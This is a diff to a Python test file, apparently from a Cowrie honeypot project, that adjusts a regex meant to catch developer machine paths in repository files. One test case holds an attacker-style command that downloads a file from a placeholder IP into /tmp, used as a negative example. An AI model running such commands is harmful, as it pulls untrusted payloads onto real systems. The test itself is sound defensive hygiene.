@@ -18,7 +18,7 @@ CLAIMS: Final = re.compile(
 # Folders of the machine something was written on. A honeypot's logs do hold /root and /tmp, and
 # Cowrie itself is installed in /home/cowrie.
 MACHINE_PATHS: Final = re.compile(
-    r"(?<![\w.-])(/work/\w|/root/\.pyenv|/tmp/dev/|/Users/\w|/home/(?!cowrie\b)\w)"
+    r"(?<![\w.-])(/work[/]\w|/root/\.pyenv|/Users/\w|/home/(?!cowrie\b)\w)"
 )
 REGISTRY_HOSTS: Final = re.compile(
     r"--(extra-)?index-url|--trusted-host|https?://[\w.:-]+/simple\b"
@@ -76,7 +76,7 @@ def test_no_file_knows_the_machine_it_was_written_on() -> None:
 @pytest.mark.parametrize(
     ("text", "is_machine_path"),
     [
-        ("cd /work/main && ls", True),
+        ("cd /root/.pyenv && ls", True),
         ("/home/alice/src", True),
         ("/home/cowrie/cowrie/var/log", False),
         ("cd /tmp; wget http://198.51.100.7/x", False),
